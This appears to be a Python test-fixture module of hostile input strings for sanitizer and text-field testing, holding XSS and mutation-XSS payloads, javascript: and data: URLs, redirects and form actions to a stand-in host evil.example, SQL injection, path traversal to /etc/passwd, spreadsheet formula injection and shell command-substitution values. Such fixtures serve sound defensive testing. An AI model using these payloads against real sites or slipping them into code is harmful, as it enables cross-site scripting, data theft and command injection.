"""Texts that have broken pages elsewhere, of the kinds that lists for testing HTML sanitizers and text fields hold:
markup that parsers read in two ways, attributes and addresses that act, templates, commands, scripts of every
direction, signs that are not seen, and words that programs take for something else. All are written for this project.
"""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT  >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=nowhere onerror=alert(1)>",
    "<img/src='nowhere'/onerror='alert`1`'//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img title='</style><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><s><template><s><img src=x onerror=alert(1)>@shady</s></template></s></template>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>open</a><a href='java&#10;script:alert(1)'>open</a>",
    "<base href='http://evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>",
    "<form id=f name=f action=http://evil.example><input name=form_token value=x><button form=f>Sign out</button>",
    "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/p)'>cover</div>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<a name=document id=body><img name=getElementById><form name=cookie>",
    "--><!-- ]]> <![CDATA[ <script>alert(1)</script> ]]>",
    "</title></style></textarea></pre></script></select></table></main><h1>Signed out</h1>",
    '"\'><b onmouseover="alert(1)" autofocus tabindex=1 x=\'',
    "`${alert(1)}` {{7*7}} {% raw %} {{ config }} #{7*7} <%= 7*7 %> ${{7*7}}",
    "<p id=main><p id=work data-refresh=/ledger><input data-help=/help data-into=main>",
    "＜script＞alert(1)＜/script＞ ‹img src=x onerror=alert(1)›",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;amp;",
    "<x contenteditable onblur=alert(1)>lose focus</x><marquee onstart=alert(1)>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)//https://city.example",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e/",
    "https://city.example@evil.example/\\..\\",
    "file:///etc/passwd",
)
TEXTS = (
    "undefined null NaN Infinity true nil None 0x1F 1e309 -0 1/0",
    "'; DROP TABLE items; -- \" OR 1=1 #",
    "../../../../etc/passwd\\..\\..\\boot.ini",
    '=HYPERLINK("http://evil.example","x") +cmd|\' /C calc\'!A0 @SUM(1)',
    "$(touch /tmp/x) `id` ; ls && %PATH% ${HOME}",
    "%s%n%p %d {0} {name!r} %(x)s",
    "العربية: مرحبا 12٪ עברית שלום",
    "\u202egnp.exe\u202e \u2066inner\u2069 \u200fright\u200e",
    "zero\u200bwidth\u200d joined\ufeff soft\u00adhyphen",
    "Z̷̢̛͎a̵͚͝l̶̰̎g̵̢̽o̴͙͒ text, a\u0300" + "\u0301" * 40,
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇺🇸 1️⃣",
    "田中さん 社會 ﷽ Ω≈ç√∫ ˚∆ 𝒯𝒽ℯ ﬁ ǅ ß İı",
    "tab\there\r\nnew line\x0bvertical\x0cform\x85next\u2028line\u2029paragraph",
    "nul\x00bell\x07escape\x1b[31mred\x1b]0;title\x07back\x08\x7f",
    "\ufffe\uffff \U0010ffff \ue000 \ufffd",
    "x" * 3_000,
    "a " * 400 + "end",
)
ALL = (*MARKUP, *ADDRESSES, *TEXTS)
